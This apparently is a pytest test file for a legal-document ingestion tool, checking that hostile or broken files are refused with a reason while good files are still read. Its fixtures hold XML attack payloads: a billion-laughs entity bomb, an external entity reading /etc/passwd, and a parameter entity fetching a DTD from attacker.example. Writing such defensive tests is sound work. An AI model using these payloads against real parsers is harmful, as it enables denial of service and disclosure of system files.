"""Hostile and broken input: each file is refused with a reason a user can act on, nothing from
outside the file is ever read, and the good files next to them are still ingested."""

from __future__ import annotations

import json

import pytest

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<pLaw xmlns="http://schemas.gpo.gov/xml/uslm"><main><section><num value="1">Sec. 1.</num>
<content>&lol9;</content></section></main></pLaw>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE pLaw [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<pLaw xmlns="http://schemas.gpo.gov/xml/uslm"><main><section><num value="1">Sec. 1.</num>
<content>&xxe;</content></section></main></pLaw>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE DIV5 [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<DIV5 N="1" TYPE="PART"><HEAD>PART 1</HEAD></DIV5>
"""
UNKNOWN_NAMESPACE = """<?xml version="1.0"?>
<statute xmlns="urn:example:not-a-legal-format"><article><p>Text.</p></article></statute>
"""
GOOD_USLM = """<?xml version="1.0" encoding="UTF-8"?>
<pLaw xmlns="http://schemas.gpo.gov/xml/uslm"><meta><congress>118</congress><docNumber>99</docNumber></meta>
<main><section><num value="1">Sec. 1.</num><heading>Short title.</heading>
<content>This Act may be cited as the Test Act.</content></section></main></pLaw>
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, ingest, legal_dir):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "bomb.xml").write_text(BILLION_LAUGHS, encoding="utf-8")
    (folder / "xxe.xml").write_text(EXTERNAL_ENTITY, encoding="utf-8")
    (folder / "parameter-entity.xml").write_text(PARAMETER_ENTITY, encoding="utf-8")
    (folder / "unknown.xml").write_text(UNKNOWN_NAMESPACE, encoding="utf-8")
    real = (legal_dir / "BILLS-116s1014es.xml").read_bytes()
    (folder / "truncated.xml").write_bytes(real[: len(real) // 2])
    (folder / "deep.xml").write_text(
        '<?xml version="1.0"?><DIV5 N="1" TYPE="PART">' + "<P>" * 3000 + "x" + "</P>" * 3000 + "</DIV5>", encoding="utf-8"
    )
    (folder / "scan.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
    (folder / "broken.docx").write_bytes(b"this is not a zip archive")
    (folder / "broken.pdf").write_bytes(b"%PDF-1.4\nthis is not really a PDF\n")
    (folder / "empty.txt").write_text("   \n", encoding="utf-8")
    (folder / "latin1.txt").write_bytes("Numéro de dossier".encode("latin-1"))
    (folder / "notes.odt").write_bytes(b"PK\x03\x04")
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    writer.add_blank_page(width=612, height=792)
    with open(folder / "scanned.pdf", "wb") as handle:
        writer.write(handle)
    (folder / "good.xml").write_text(GOOD_USLM, encoding="utf-8")
    return ingest(folder, prepare=True)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("bomb.xml", "unsafe XML: the DTD declares entity declaration 'lol'"),
        ("xxe.xml", "unsafe XML: the DTD declares external entity 'xxe' pointing to file:///etc/passwd"),
        ("parameter-entity.xml", "unsafe XML"),
        ("unknown.xml", "unknown XML format: root element <{urn:example:not-a-legal-format}statute>"),
        ("truncated.xml", "truncated or malformed XML"),
        ("deep.xml", "malformed XML"),
        ("scan.png", "scanned image: no text layer"),
        ("scanned.pdf", "no text layer: the PDF has 2 page(s) but only 0 characters of text"),
        ("broken.pdf", "unreadable PDF"),
        ("broken.docx", "not a valid DOCX"),
        ("empty.txt", "empty: no text"),
        ("latin1.txt", "invalid UTF-8"),
        ("notes.odt", "unsupported file type '.odt'"),
    ],
)
def test_refused_with_a_reason(hostile, name, expected):
    reasons = hostile.reasons()
    assert name in reasons, f"{name} was not refused; refused: {sorted(reasons)}"
    assert reasons[name].startswith(expected), reasons[name]


def test_the_rest_goes_on(hostile):
    assert [d.metadata["citation"] for d in hostile.documents] == ["Pub. L. 118-99, sec. 1"]
    assert hostile.report.counts["files: uslm"] == 1


def test_nothing_from_outside_the_file_is_read(hostile):
    everything = json.dumps([d.to_row() for d in hostile.documents]) + json.dumps(hostile.report.to_json())
    assert "root:" not in everything and "/bin/" not in everything
    assert "lollollol" not in everything


def test_safe_parser_settings():
    """lxml is the second lock: even a file that slipped past the first would not expand entities."""
    from custom_llm_public_sector import safe_xml

    parser = safe_xml._parser()
    assert parser.resolvers is not None  # a real lxml parser
    with pytest.raises(safe_xml.UnsafeXML):
        safe_xml.parse_unchecked(BILLION_LAUGHS.encode())
    with pytest.raises(safe_xml.UnsafeXML):
        safe_xml.parse(EXTERNAL_ENTITY.encode())


def test_damaged_real_files_never_crash(tmp_path, legal_dir):
    """Every real sample cut short or with flipped bytes is either read or refused with a reason."""
    import random

    from custom_llm_public_sector.ingestion import Refused, read_file

    rng = random.Random(7)
    for source in sorted(legal_dir.iterdir()):
        if source.suffix not in {".xml", ".html", ".pdf"}:
            continue
        data = source.read_bytes()
        damaged = [data[: rng.randrange(1, len(data))] for _ in range(3)]
        for _ in range(2):
            flipped = bytearray(data)
            for _ in range(5):
                flipped[rng.randrange(len(flipped))] = rng.randrange(256)
            damaged.append(bytes(flipped))
        for number, content in enumerate(damaged):
            path = tmp_path / f"{source.stem}-{number}{source.suffix}"
            path.write_bytes(content)
            try:
                read_file(path, path.name, {})
            except Refused as refusal:
                assert str(refusal)


def test_an_unexpected_parser_error_leaves_only_that_file_out(tmp_path, ingest, monkeypatch):
    """A failure no reader expected is the one rule's: ``parser failed: TypeName: message``."""
    from custom_llm_public_sector import ingestion

    (tmp_path / "good.xml").write_text(GOOD_USLM, encoding="utf-8")
    (tmp_path / "buggy.xml").write_text(GOOD_USLM, encoding="utf-8")
    real = ingestion.read_file

    def read_file(path, name, options):
        if name == "buggy.xml":
            raise KeyError("a bug no reader expected")
        return real(path, name, options)

    monkeypatch.setattr(ingestion, "read_file", read_file)
    result = ingest(tmp_path)
    assert result.reasons() == {"buggy.xml": "parser failed: KeyError: 'a bug no reader expected'"}
    assert result.report.counts["skipped: parser failed"] == 1
    assert [d.source for d in result.documents] == ["good.xml"]
